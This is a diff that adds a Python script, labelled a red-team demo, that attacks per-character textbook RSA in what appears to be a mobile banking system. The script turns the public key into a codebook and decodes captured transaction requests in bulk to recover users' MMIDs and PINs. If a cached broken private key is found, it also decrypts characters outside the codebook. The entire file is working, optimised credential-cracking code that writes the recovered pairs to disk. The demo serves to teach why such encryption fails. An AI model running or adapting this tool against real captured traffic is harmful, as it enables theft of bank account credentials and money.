@@ -0,0 +1,198 @@
+import json
+import os
+import string
+import sys
+import time
+from key_cache import default_cache
+from rsa_engine import RSADecryptor
+from rsa_keygen import client_public_key
+
+try:
+    import numpy as np
+except ImportError:  # only CodebookCracker needs NumPy
+    np = None
+
+# Red-team demo: textbook RSA applied per character is a substitution cipher.
+# Encrypting every likely character under the public key gives a codebook that
+# decodes captured MMIDs and PINs without the private key or any factoring.
+#
+#   python codebook_attack.py capture.jsonl [more.jsonl ...]   (stdin without arguments)
+#
+# A capture holds one request per line as sent to the bank or a machine:
+# 'transaction' requests and 'transaction_batch' requests are decoded, anything
+# else, and any transaction with a ciphertext that is not an integer below n,
+# is skipped. The key is the one clients encrypt to (RSA_PUBLIC_KEY, or the
+# demo key); CRACK_OUTPUT writes the recovered (MMID, PIN) pairs as JSON lines.
+
+FIELDS = ('encrypted_sender_mmid', 'encrypted_sender_pin')
+UNKNOWN = 0xFFFD  # decoded in place of a ciphertext outside the codebook
+PUBLIC_KEY = client_public_key()
+CHUNK = int(os.environ.get("CRACK_CHUNK", 20000))  # transactions per vectorized pass
+OUTPUT = os.environ.get("CRACK_OUTPUT")
+
+def valid_ciphertexts(values, n):
+    return isinstance(values, list) and all(type(c) is int and 0 <= c < n for c in values)
+
+def captured_transactions(lines, n=PUBLIC_KEY[1]):
+    # Transactions from a JSON-lines capture, with batches flattened; other lines are skipped
+    for line in lines:
+        try:
+            message = json.loads(line)
+        except ValueError:
+            continue
+        if not isinstance(message, dict):
+            continue
+        items = message.get('transactions') if message.get('type') == 'transaction_batch' else [message]
+        for item in items or ():
+            if isinstance(item, dict) and all(valid_ciphertexts(item.get(field), n) for field in FIELDS):
+                yield item
+
+class CodebookCracker:
+    """
+    Decodes per-character textbook RSA ciphertexts for one public key in bulk.
+    The codebook (the ciphertext of every alphabet character) is held as a
+    lookup table indexed by ciphertext when n is at most table_limit, as a
+    sorted array searched with np.searchsorted while ciphertexts fit in int64,
+    and as a dict for larger moduli, whose ciphertexts NumPy cannot hold. Each chunk of
+    transactions is flattened into one integer array, mapped to code points
+    in one indexing operation and decoded to text in one UTF-32 pass, then
+    cut back into fields. With a decryptor (an RSADecryptor for a recovered
+    key), characters outside the alphabet are decrypted once each and added to
+    the codebook; without one they decode as U+FFFD and the field does not
+    count as recovered.
+    """
+
+    def __init__(self, public_key, alphabet=string.printable, decryptor=None, table_limit=1 << 24):
+        if np is None:
+            raise ImportError("numpy is required for CodebookCracker")
+        self.e, self.n = public_key
+        self.decryptor = decryptor
+        codebook = {pow(ord(char), self.e, self.n): ord(char) for char in alphabet}
+        self.table = self.keys = self.codebook = None
+        if self.n <= table_limit:
+            self.table = np.full(self.n, UNKNOWN, dtype='<u4')
+            self.table[list(codebook)] = list(codebook.values())
+        elif self.n <= 2 ** 63:
+            self.add_sorted(codebook)
+        else:
+            self.codebook = codebook
+        self.stats = {'transactions': 0, 'mmids': 0, 'pins': 0, 'characters': 0, 'decrypted': 0, 'seconds': 0.0}
+
+    def add_sorted(self, entries):
+        # Merges {ciphertext: code} into the sorted arrays; decrypted characters join the alphabet's
+        keys = np.array(list(entries), dtype=np.int64)
+        values = np.array(list(entries.values()), dtype='<u4')
+        if self.keys is not None:
+            keys = np.concatenate((self.keys, keys))
+            values = np.concatenate((self.values, values))
+        order = np.argsort(keys, kind='stable')
+        self.keys, self.values = keys[order], values[order]
+
+    def lookup(self, ciphertexts):
+        if self.table is not None:
+            return self.table[ciphertexts]
+        if self.codebook is not None:
+            return np.fromiter((self.codebook.get(c, UNKNOWN) for c in ciphertexts), dtype='<u4',
+                               count=len(ciphertexts))
+        index = np.searchsorted(self.keys, ciphertexts).clip(max=len(self.keys) - 1)
+        found = self.keys[index] == ciphertexts
+        return np.where(found, self.values[index], UNKNOWN).astype('<u4')
+
+    def fill_unknown(self, ciphertexts, codes):
+        # Decrypts each distinct missing ciphertext once and remembers the character
+        missing = codes == UNKNOWN
+        if self.decryptor is None or not missing.any():
+            return
+        if self.codebook is not None:
+            missing_ciphertexts = [c for c, unknown in zip(ciphertexts, missing.tolist()) if unknown]
+            distinct = set(missing_ciphertexts)
+        else:
+            missing_ciphertexts = ciphertexts[missing]
+            distinct = np.unique(missing_ciphertexts).tolist()
+        decrypted = {}
+        for c in distinct:
+            m = self.decryptor.decrypt_int(c)
+            decrypted[c] = m if m < 0x110000 and not 0xD800 <= m < 0xE000 else UNKNOWN
+        self.stats['decrypted'] += len(decrypted)
+        if self.table is not None:
+            self.table[list(decrypted)] = list(decrypted.values())
+        elif self.codebook is not None:
+            self.codebook.update(decrypted)
+        else:
+            self.add_sorted(decrypted)
+        codes[missing] = self.lookup(missing_ciphertexts)
+
+    def crack(self, transactions):
+        """Decodes one chunk; returns [(mmid, pin)] with U+FFFD for undecodable characters."""
+        start = time.perf_counter()
+        lengths = []
+        flat = []
+        for transaction in transactions:
+            for field in FIELDS:
+                values = transaction[field]
+                lengths.append(len(values))
+                flat.extend(values)
+        if self.codebook is not None:
+            ciphertexts = flat  # Python ints: beyond int64 for these moduli
+            if not all(0 <= c < self.n for c in flat):
+                raise ValueError(f"Ciphertext outside [0, {self.n})")
+        else:
+            ciphertexts = np.fromiter(flat, dtype=np.int64, count=len(flat))
+            if len(ciphertexts) and (ciphertexts.min() < 0 or ciphertexts.max() >= self.n):
+                raise ValueError(f"Ciphertext outside [0, {self.n})")
+        codes = self.lookup(ciphertexts)
+        self.fill_unknown(ciphertexts, codes)
+        text = codes.tobytes().decode('utf-32-le')
+        fields = []
+        offset = 0
+        for length in lengths:
+            fields.append(text[offset:offset + length])
+            offset += length
+        pairs = list(zip(fields[0::2], fields[1::2]))
+        unknown = chr(UNKNOWN)
+        self.stats['transactions'] += len(pairs)
+        self.stats['mmids'] += sum(unknown not in mmid for mmid, _ in pairs)
+        self.stats['pins'] += sum(unknown not in pin for _, pin in pairs)
+        self.stats['characters'] += len(ciphertexts)
+        self.stats['seconds'] += time.perf_counter() - start
+        return pairs
+
+    def stream(self, transactions, chunk=CHUNK):
+        # Decodes an iterable of any length chunk by chunk, yielding (mmid, pin) in order
+        batch = []
+        for transaction in transactions:
+            batch.append(transaction)
+            if len(batch) >= chunk:
+                yield from self.crack(batch)
+                batch = []
+        if batch:
+            yield from self.crack(batch)
+
+def open_captures(paths):
+    if not paths:
+        yield from sys.stdin
+        return
+    for path in paths:
+        with open(path) as f:
+            yield from f
+
+if __name__ == "__main__":
+    # A key the attacker has already broken (see key_cache) also decodes characters outside the alphabet
+    cached = default_cache().get(*PUBLIC_KEY)
+    decryptor = None
+    if cached is not None:
+        decryptor = RSADecryptor(p=cached['p'], q=cached['q'], d=cached['d'], e=PUBLIC_KEY[0], alphabet=None)
+    cracker = CodebookCracker(PUBLIC_KEY, decryptor=decryptor)
+    out = open(OUTPUT, "w") if OUTPUT else None
+    start = time.perf_counter()
+    for mmid, pin in cracker.stream(captured_transactions(open_captures(sys.argv[1:]), PUBLIC_KEY[1])):
+        if out is not None:
+            out.write(json.dumps({'mmid': mmid, 'pin': pin}) + "\n")
+    wall = time.perf_counter() - start
+    if out is not None:
+        out.close()
+    stats = cracker.stats
+    print(f"{stats['transactions']} transactions: {stats['mmids']} MMIDs and {stats['pins']} PINs recovered, "
+          f"{stats['decrypted']} characters outside the codebook decrypted")
+    print(f"decode: {stats['transactions'] / max(stats['seconds'], 1e-9):,.0f} transactions/s; "
+          f"end to end with parsing: {stats['transactions'] / max(wall, 1e-9):,.0f} transactions/s")